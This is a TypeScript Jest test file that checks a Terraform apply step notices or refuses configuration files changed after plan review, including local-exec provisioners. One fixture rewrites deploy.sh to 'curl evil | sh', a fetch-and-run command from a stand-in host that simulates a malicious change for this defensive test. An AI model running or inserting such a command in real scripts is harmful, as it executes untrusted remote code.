import { expect, test } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { serveGithub } from '../../../packages/github-server/src/index.ts'
import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
import { onGithub } from '../on-github.ts'
import { annotated, runStep } from '../on-a-runner.ts'
import { change, planWith } from '../plans.ts'

type Files = Readonly<Record<string, string>>
const FILES: Files = { 'main.tf': 'variable "note" {}\n', 'deploy.sh': 'echo reviewed\n', 'prod/main.tf': '' }
const CHANGED: Files = { ...FILES, 'deploy.sh': 'curl evil | sh\n' }
const BOTH = 'reviewed\nsame-files'
const DIFFERENT =
  "The files of the configuration, or the workspace's working directory, differ from those of the reviewed plan"
const REVIEW = 'A plan does not show everything that a file decides, so review the changed files'
/** What a plan shows of a provisioner: the name that its command refers to. */
const BLOCK = {
  address: 'a.a',
  provisioners: [{ type: 'local-exec', expressions: { command: { references: ['local.command'] } } }]
}
const PLAN = planWith([change('a.a', 'create', { input: 'x' })], {
  configuration: { root_module: { resources: [BLOCK] } }
})

/** A repository in which each call makes a commit, and checks it out. */
function repository() {
  const workspace = mkdtempSync(join(tmpdir(), 'checkout-'))
  const git = (...args: string[]) =>
    execFileSync('git', ['-C', workspace, '-c', 'user.name=A', '-c', 'user.email=a@example.com', ...args], {
      encoding: 'utf8'
    }).trim()
  git('init', '--quiet')
  mkdirSync(join(workspace, 'prod'))
  const commit = (files: Files) => {
    for (const [name, text] of Object.entries(files)) writeFileSync(join(workspace, name), text)
    git('add', '.')
    git('commit', '--quiet', '--allow-empty', '-m', 'Change')
    return git('rev-parse', 'HEAD')
  }
  return { workspace, commit, [Symbol.dispose]: () => rmSync(workspace, { recursive: true }) }
}

interface Between {
  readonly inputs?: Files
  /** The workspace's working directory when the plan is applied. */
  readonly workingDirectory?: string
}

/** `reviewed` and `applied`: the files of each step, or none where it plans a version that was uploaded before. */
async function reviewThenApply(
  conditions: string,
  reviewed: Files | undefined,
  applied: Files | undefined,
  { inputs, workingDirectory }: Between = {}
) {
  using checkout = repository()
  await using hcp = await serve({ script: PLAN })
  await using github = await serveGithub()
  const pull = github.addPullRequest({ number: 7 })
  const { workspace } = checkout
  const of = async (files: Files | undefined, more: Files) => {
    const commit = checkout.commit(files ?? FILES)
    const own = { ...inputs, ...more }
    if (files !== undefined) return { commit, workspace, inputs: own }
    const uploaded = await runStep(hcp, { action: 'configuration/upload', workspace })
    return {
      commit,
      workspace,
      inputs: { ...own, 'configuration-version-id': uploaded.outputs['configuration-version-id'] }
    }
  }
  const planning = await of(reviewed, {})
  await runStep(hcp, onGithub(github.trigger('pull_request', pull), planning))
  github.merge(pull)
  if (workingDirectory !== undefined) hcp.find().attributes['working-directory'] = workingDirectory
  const applying = await of(applied, {
    operation: 'apply',
    'apply-only-if': conditions,
    'pull-request-comment': 'never'
  })
  const step = await runStep(hcp, onGithub(github.trigger('push', pull), applying))
  const commits = `https://github.com/example/infrastructure/compare/${planning.commit}..${applying.commit}`
  return { step, difference: `${DIFFERENT}. See what changed between the commits that were checked out: ${commits}` }
}

test('where the files are the reviewed ones, what a plan does not show is named with what else can differ', async () => {
  const { step } = await reviewThenApply(BOTH, FILES, FILES)
  expect(step.outputs['run-status']).toBe('applied')
  const [notice = '', ...others] = annotated(step, 'notice')
  expect(others).toEqual([])
  expect(notice).toMatch(
    /^The files of the configuration are those of the reviewed plan\. Things that are in no file, .*provisioner "local-exec"/
  )
})

test('where a file is another one, the commits to compare are named, whatever the plan shows of it', async () => {
  const { step, difference } = await reviewThenApply('reviewed', FILES, CHANGED)
  expect(step.outputs['run-status']).toBe('applied')
  const [notice = '', ...others] = annotated(step, 'notice')
  expect(others).toEqual([])
  expect(notice.startsWith(`${DIFFERENT}. ${REVIEW}. `)).toBe(true)
  expect(notice).toMatch(/: a\.a \(provisioner "local-exec"\)\. See what changed /)
  expect(difference.startsWith(DIFFERENT) && notice.endsWith(difference.slice(DIFFERENT.length))).toBe(true)
  expect(step.log).toContain('did not fully compare:\na.a (provisioner "local-exec")')
})

test.each([
  ['parts of its sentences', 'reviewed plan. A plan'],
  ['its end, with the name that follows', 'Review their code: a.a']
])(
  'where the author of the configuration made words of the notice a secret, the apply is refused: %s',
  async (_name, words) => {
    const inputs = { variables: `note = "${words}"`, 'sensitive-run-variables': 'note' }
    const { step } = await reviewThenApply('reviewed', FILES, CHANGED, { inputs })
    expect(step.outputs['run-status']).toBe('discarded')
    expect(annotated(step, 'error')[0]).toContain('is equal to words of the notice')
    expect(annotated(step, 'notice')).toEqual([])
  }
)

test.each([
  ['the report is of a version that was not packed', undefined, FILES, 'the signed report has no digest'],
  ['this step packs none', FILES, undefined, 'this step did not upload them']
])(
  'without a digest, it is not known whether the files are the reviewed ones: %s',
  async (_name, reviewed, applied, why) => {
    const { step } = await reviewThenApply(BOTH, reviewed, applied)
    expect(step.outputs['run-status']).toBe('discarded')
    expect(annotated(step, 'error')[0]).toContain(why)
    expect(annotated(step, 'notice')[0]).toContain(why)
  }
)

test.each<[string, Files, Between]>([
  ['other files', CHANGED, {}],
  ['another working directory of the same files', FILES, { workingDirectory: 'prod' }]
])('`same-files` refuses an apply of %s', async (_name, applied, between) => {
  const { step, difference } = await reviewThenApply(BOTH, FILES, applied, between)
  expect(step.outputs['run-status']).toBe('discarded')
  expect(annotated(step, 'error')[0]).toContain(difference)
})
